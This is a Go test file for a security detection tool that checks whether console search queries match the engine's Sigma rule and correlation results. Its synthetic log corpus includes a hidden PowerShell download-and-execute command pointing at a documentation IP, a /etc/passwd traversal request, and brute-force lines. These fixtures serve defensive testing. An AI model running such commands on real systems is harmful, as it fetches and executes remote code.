package web

import (
	"encoding/json"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/vigilsec/vigil/internal/alert"
	"github.com/vigilsec/vigil/internal/detect"
	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/ingest"
	"github.com/vigilsec/vigil/internal/parse"
	"github.com/vigilsec/vigil/internal/query"
	"github.com/vigilsec/vigil/internal/ruleset"
	"github.com/vigilsec/vigil/internal/sigma"
)

var eqBase = time.Date(2026, 12, 7, 10, 0, 0, 0, time.UTC)

// corpus parses lines (syslog, or JSON objects) as the server does, the
// i-th at eqBase + i seconds when the line carries no time of its own.
func corpus(t testing.TB, lines []string) []*event.Event {
	t.Helper()
	p := parse.New(parse.Options{})
	var out []*event.Event
	for i, l := range lines {
		at := eqBase.Add(time.Duration(i) * time.Second)
		l = strings.ReplaceAll(l, "$TIME", at.Format(time.Stamp))
		l = strings.ReplaceAll(l, "$ISO", at.Format(time.RFC3339))
		ev := &event.Event{}
		p.Parse(&ingest.Raw{Data: []byte(l), Input: "test", Received: at}, ev)
		out = append(out, ev)
	}
	return out
}

func sshLines(n int, ip string) []string {
	var out []string
	for i := range n {
		out = append(out, fmt.Sprintf("<38>$TIME web01 sshd[%d]: Failed password for root from %s port %d ssh2", 3000+i, ip, 40000+i))
	}
	return out
}

// mixedCorpus holds events of many rules' logsources, so that a query
// that is too wide or too narrow shows.
func mixedCorpus(t testing.TB) []*event.Event {
	lines := []string{
		"<38>$TIME web01 sshd[1]: Accepted password for root from 198.51.100.9 port 22 ssh2",
		"<38>$TIME web01 sshd[2]: Invalid user oracle from 198.51.100.23 port 41001",
		"<38>$TIME web02 sshd[3]: Invalid user admin from 198.51.100.23 port 41002",
		"<38>$TIME web01 sshd[4]: Failed password for invalid user admin from 198.51.100.23 port 41003 ssh2",
		"<86>$TIME web01 sudo:    alice : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
		"<38>$TIME web01 su[5]: FAILED SU (to root) alice on pts/0",
		"<13>$TIME web01 useradd[6]: new user: name=backdoor, UID=1001, GID=1001, home=/home/backdoor, shell=/bin/bash",
		`<190>$TIME web03 nginx: 198.51.100.40 - - [07/Dec/2026:10:00:00 +0000] "GET /.env HTTP/1.1" 404 153 "-" "curl/8"`,
		`<190>$TIME web03 nginx: 198.51.100.40 - - [07/Dec/2026:10:00:01 +0000] "GET /../../etc/passwd HTTP/1.1" 400 153 "-" "curl/8"`,
		`<190>$TIME web03 nginx: 198.51.100.41 - - [07/Dec/2026:10:00:02 +0000] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0"`,
		`{"@timestamp":"$ISO","EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws01","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')","User":"CORP\\bob","Hashes":"SHA256=` + strings.Repeat("ab", 32) + `"}`,
		`{"@timestamp":"$ISO","EventID":4688,"Channel":"Security","Computer":"ws02","NewProcessName":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /all","SubjectUserName":"bob"}`,
		`{"@timestamp":"$ISO","EventID":4720,"Channel":"Security","Computer":"dc01","TargetUserName":"svc-new","SubjectUserName":"admin"}`,
		`{"@timestamp":"$ISO","EventID":4732,"Channel":"Security","Computer":"dc01","TargetUserName":"Administrators","MemberName":"CN=svc-new"}`,
		`{"@timestamp":"$ISO","message":"GET /wp-login.php 404","source.ip":"198.51.100.40","url.path":"/wp-login.php","http.response.status_code":404,"event.category":"web","event.dataset":"nginx.access"}`,
	}
	lines = append(lines, sshLines(3, "203.0.113.7")...)
	return corpus(t, lines)
}

// ruleEngine compiles one rule alone, so that its matches show even when
// it feeds a correlation that would keep them to itself.
func ruleEngine(t testing.TB, r *sigma.Rule) *detect.Engine {
	t.Helper()
	eng, skipped, err := detect.Compile([]*sigma.Rule{r}, detect.Options{})
	if err != nil || len(skipped) > 0 {
		t.Fatalf("compiling %s: %v %v", r.Title, err, skipped)
	}
	return eng
}

// TestRuleQueryMatchesEngine: for every bundled detection rule, the query
// the console writes finds the events the engine matches on a mixed
// corpus; when the page says nothing of approximations, exactly those.
func TestRuleQueryMatchesEngine(t *testing.T) {
	l := builtinRules(t)
	evs := mixedCorpus(t)
	checked := 0
	for _, r := range l.Set.Rules {
		if r.Kind != sigma.KindDetection || r.Detection == nil {
			continue
		}
		t.Run(r.Title, func(t *testing.T) {
			eng := ruleEngine(t, r)
			b := &qbuilder{set: l.Set, table: eng.Logsources()}
			text := b.text(b.rule(r, true))
			q, err := query.Parse(text)
			if err != nil {
				t.Fatalf("query %q: %v", text, err)
			}
			m := query.Compile(q)
			matched := 0
			for i, ev := range evs {
				gotEngine := len(eng.MatchAll(ev)) > 0
				gotQuery := m.Match(ev)
				if gotEngine {
					matched++
				}
				switch {
				case gotEngine && !gotQuery:
					t.Errorf("event %d: the engine matches, the query %q does not: %s", i, text, ev.AppendJSON(nil))
				case !gotEngine && gotQuery && len(b.notes) == 0:
					t.Errorf("event %d: the query %q matches, the engine does not (and the page says nothing): %s", i, text, ev.AppendJSON(nil))
				}
			}
			t.Logf("%d events; query %s; notes %q", matched, text, b.notes)
		})
		checked++
	}
	if checked < 10 {
		t.Errorf("checked %d bundled detection rules, want the bundle (at least 10)", checked)
	}
}

// TestCorrelationEventsQuery: the brute-force correlation's alert links
// to a search that lists exactly the failed logins that made it: the
// group's events over the alert's first to last seen, the first
// included (which the detection keeps no copy of).
func TestCorrelationEventsQuery(t *testing.T) {
	l := builtinRules(t)
	lines := append(sshLines(12, "203.0.113.7"), sshLines(4, "203.0.113.8")...)
	lines = append(lines, "<38>$TIME web01 sshd[9]: Accepted password for root from 203.0.113.7 port 22 ssh2")
	evs := corpus(t, lines)
	var got []detect.Detection
	for _, ev := range evs {
		for _, d := range l.Engine.MatchAll(ev) {
			if d.Rule.Title == "SSH brute force from one source" {
				got = append(got, d)
			}
		}
	}
	if len(got) != 1 {
		t.Fatalf("got %d brute-force detections, want 1", len(got))
	}
	d := got[0]
	a := alert.Alert{RuleID: d.Rule.ID, Group: map[string]string{}, FirstSeen: d.First, LastSeen: d.Time, Count: 1}
	for _, g := range d.Group {
		a.Group[g.Field] = g.Value
	}
	e := eventsOf(a, l)
	if len(e.Notes) > 0 {
		t.Errorf("notes %q, want none (the SSH rules can be written exactly)", e.Notes)
	}
	const wantQuery = "logsource.product:linux AND logsource.service:sshd AND event.dataset:sshd AND event.category:authentication AND event.outcome:failure AND source.ip:203.0.113.7"
	if e.Query != wantQuery {
		t.Errorf("query:\n got %s\nwant %s", e.Query, wantQuery)
	}
	if e.Correlation != "event_count >= 10 over vigil_ssh_auth_failure by source.ip within 5m" {
		t.Errorf("correlation described as %q", e.Correlation)
	}
	q, err := query.Parse(e.Query)
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, ev := range evs {
		if ts := ev.Timestamp(); !ts.Before(e.From) && !ts.After(e.To) && query.Matches(q, ev) {
			n++
		}
	}
	if n != d.Count {
		t.Errorf("the search lists %d events, want the %d that made the detection", n, d.Count)
	}
	if !strings.HasPrefix(e.URL(), "/search?") || !strings.Contains(e.URL(), "range=custom") {
		t.Errorf("URL %q", e.URL())
	}
}

func TestAlertEventsQuery(t *testing.T) {
	l := builtinRules(t)
	ruleID := func(title string) string {
		for _, r := range l.Set.Rules {
			if r.Title == title {
				return r.ID
			}
		}
		t.Fatalf("no bundled rule %q", title)
		return ""
	}
	evJSON := func(fields map[string]any) json.RawMessage {
		b, _ := json.Marshal(fields)
		return b
	}
	hash := strings.Repeat("0123456789abcdef", 8)
	tests := []struct {
		name      string
		a         alert.Alert
		wantQuery string
		wantNotes []string
		wantBack  time.Duration
	}{
		{
			name: "a detection's alert: its rule on its host and source",
			a: alert.Alert{RuleID: ruleID("SSH login attempt for a user that does not exist"),
				Entities: map[string][]string{"host": {"web01"}, "source.ip": {"198.51.100.23"}, "user": {"oracle", "admin"}},
				Event:    evJSON(map[string]any{"host.name": "web01", "source.ip": "198.51.100.23", "user.name": "oracle"})},
			wantQuery: "logsource.product:linux AND logsource.service:sshd AND event.dataset:sshd AND event.action:ssh_invalid_user AND host.name:web01 AND source.ip:198.51.100.23",
		},
		{
			name: "entities in the fields of the stored event (Windows names)",
			a: alert.Alert{RuleID: ruleID("SSH login attempt for a user that does not exist"),
				Entities: map[string][]string{"host": {"dc01"}, "user": {"svc-new"}, "file.hash": {hash}},
				Event:    evJSON(map[string]any{"Computer": "dc01", "TargetUserName": "svc-new"})},
			wantQuery: "logsource.product:linux AND logsource.service:sshd AND event.dataset:sshd AND event.action:ssh_invalid_user AND Computer:dc01 AND TargetUserName:svc-new",
		},
		{
			name: "a correlation grouped by a field no event has: the events without it, in any field that holds it",
			a:    alert.Alert{RuleID: ruleID("Web content scanning from one source"), Group: map[string]string{"c-ip": ""}},
			wantQuery: "(logsource.category:webserver AND sc-status:404 OR http.request.method:* AND (event.dataset:*.access OR event.dataset:*access) AND http.response.status_code:404 " +
				"OR logsource.category:webserver AND http.response.status_code:404) AND NOT c-ip:* AND NOT source.ip:*",
		},
		{
			name: "a correlation grouped by a mapped field: the value in the field as written or as mapped (c-ip is source.ip)",
			a:    alert.Alert{RuleID: ruleID("Web content scanning from one source"), Group: map[string]string{"c-ip": "203.0.113.77"}},
			wantQuery: "(logsource.category:webserver AND sc-status:404 OR http.request.method:* AND (event.dataset:*.access OR event.dataset:*access) AND http.response.status_code:404 " +
				"OR logsource.category:webserver AND http.response.status_code:404) AND (c-ip:203.0.113.77 OR source.ip:203.0.113.77)",
		},
		{
			name: "a correlation of a correlation reaches back by the inner window",
			a:    alert.Alert{RuleID: ruleID("SSH login succeeds after brute force"), Group: map[string]string{"source.ip": "198.51.100.14"}},
			wantQuery: "logsource.product:linux AND logsource.service:sshd AND event.dataset:sshd AND event.category:authentication AND event.outcome:failure AND source.ip:198.51.100.14 " +
				"OR logsource.product:linux AND logsource.service:sshd AND event.dataset:sshd AND event.category:authentication AND event.outcome:success AND source.ip:198.51.100.14",
			wantNotes: []string{`"SSH brute force from one source" is itself a correlation: the search also lists its events from up to 5m before this alert was first seen, some of which may not have counted`},
			wantBack:  5 * time.Minute,
		},
		{
			name:      "a rule that is not loaded: the group's values",
			a:         alert.Alert{RuleID: "intel-feed-x", Group: map[string]string{"source.ip": "203.0.113.9", "user.name": `a "quoted" user`}},
			wantQuery: `source.ip:203.0.113.9 AND user.name:"a \"quoted\" user"`,
			wantNotes: []string{"the rule of this alert is not loaded: the search lists the events of its entities in its time"},
		},
		{
			name: "a campaign is not narrowed to one subject",
			a: alert.Alert{RuleID: ruleID("SSH login attempt for a user that does not exist"), Campaign: true,
				Entities: map[string][]string{"source.ip": {"198.51.100.23"}}},
			wantQuery: "logsource.product:linux AND logsource.service:sshd AND event.dataset:sshd AND event.action:ssh_invalid_user",
			wantNotes: []string{"a campaign alert stands for many subjects: the search lists the rule's events for all of them"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tt.a.FirstSeen, tt.a.LastSeen = eqBase, eqBase.Add(time.Hour)
			e := eventsOf(tt.a, l)
			if e.Query != tt.wantQuery {
				t.Errorf("query:\n got %s\nwant %s", e.Query, tt.wantQuery)
			}
			if d := cmp.Diff(tt.wantNotes, e.Notes); d != "" {
				t.Errorf("notes (-want +got):\n%s", d)
			}
			if want := eqBase.Add(-tt.wantBack); !e.From.Equal(want) || !e.To.Equal(tt.a.LastSeen) {
				t.Errorf("time: got %v to %v, want %v to %v", e.From, e.To, want, tt.a.LastSeen)
			}
		})
	}
}

// TestRuleQueryApproximations: parts of a rule the query language cannot
// say make the search wider, never narrower, and the page says which.
func TestRuleQueryApproximations(t *testing.T) {
	const rules = `
title: regex
id: r-regex
logsource: {product: test}
detection:
  sel:
    Image|endswith: '\cmd.exe'
    CommandLine|re: 'x{2,}'
  condition: sel
---
title: regex under not
id: r-not-regex
logsource: {product: test}
detection:
  sel:
    Image|endswith: '\cmd.exe'
  filter:
    CommandLine|re: 'x{2,}'
  condition: sel and not filter
---
title: cased and keywords
id: r-cased
logsource: {product: test}
detection:
  sel:
    User|cased: Admin
  kw:
    - 'Failed password'
  condition: sel or kw
---
title: wildcards, cidr, numbers, null, exists
id: r-misc
logsource: {product: test}
detection:
  sel:
    Path|contains|all: ['a*b', 'c\?d']
    src|cidr: 10.0.0.0/8
    Port|gte: 1024
    Gone: null
    Opt|exists: true
  condition: sel
`
	set, errs := sigma.NewSet(mustParse(t, rules))
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	tests := []struct {
		id        string
		wantQuery string
		wantNotes []string
	}{
		{"r-regex", `logsource.product:test AND Image:*\\cmd.exe`,
			[]string{`field "CommandLine" is matched by a regular expression, which the query language cannot say`}},
		{"r-not-regex", `logsource.product:test AND Image:*\\cmd.exe`,
			[]string{`field "CommandLine" is matched by a regular expression, which the query language cannot say`}},
		{"r-cased", `logsource.product:test AND (User:Admin OR "Failed password")`,
			[]string{`field "User" is matched case-sensitively (cased); the search ignores case`}},
		{"r-misc", `logsource.product:test AND Path:*a*b* AND Path:*c\?d* AND src:10.0.0.0/8 AND Port>=1024 AND NOT Gone:* AND Opt:*`,
			[]string{`field "Gone": null is searched as absent`}},
	}
	for _, tt := range tests {
		t.Run(tt.id, func(t *testing.T) {
			r, ok := set.Lookup(tt.id)
			if !ok {
				t.Fatalf("no rule %s", tt.id)
			}
			b := &qbuilder{set: set}
			got := b.text(b.rule(r, true))
			if got != tt.wantQuery {
				t.Errorf("query:\n got %s\nwant %s", got, tt.wantQuery)
			}
			if d := cmp.Diff(tt.wantNotes, b.notes); d != "" {
				t.Errorf("notes (-want +got):\n%s", d)
			}
		})
	}
}

func mustParse(t testing.TB, text string) []*sigma.Rule {
	t.Helper()
	rs, err := sigma.Parse([]byte(text), "test.yml")
	if err != nil {
		t.Fatal(err)
	}
	return rs
}

// FuzzAlertEventsQuery: whatever group-by values and entities an attacker
// puts in the logs, the search the alert links to parses, and a group
// value comes back from it as the value it was.
func FuzzAlertEventsQuery(f *testing.F) {
	for _, s := range []string{"203.0.113.7", `a "quoted" user`, `back\slash`, "", "x OR y", "*", "a:b", "(", "NOT", "\x00\xff", strings.Repeat("f", 300)} {
		f.Add(s, s)
	}
	l := &ruleset.Loaded{}
	f.Fuzz(func(t *testing.T, ip, user string) {
		a := alert.Alert{RuleID: "not-loaded", Group: map[string]string{"source.ip": ip, "user.name": user}, FirstSeen: eqBase, LastSeen: eqBase}
		e := eventsOf(a, l)
		if e.Query == "" {
			return // nothing narrows (every value empty or unwritable): said in the notes
		}
		q, err := query.Parse(e.Query)
		if err != nil {
			t.Fatalf("query %q does not parse: %v", e.Query, err)
		}
		for field, v := range a.Group {
			if v == "" {
				continue
			}
			if !termOf(q.Filter, field, v) && !slices.ContainsFunc(e.Notes, func(n string) bool { return strings.Contains(n, strconv.Quote(field)) }) {
				t.Errorf("query %q lost %s=%q (notes %q)", e.Query, field, v, e.Notes)
			}
		}
	})
}

// termOf reports whether x holds the term field:value.
func termOf(x query.Expr, field, value string) bool {
	switch y := x.(type) {
	case *query.Term:
		return y.Field == field && y.Op == query.OpEq && y.Value == value
	case *query.And:
		for _, t := range y.Terms {
			if termOf(t, field, value) {
				return true
			}
		}
	}
	return false
}
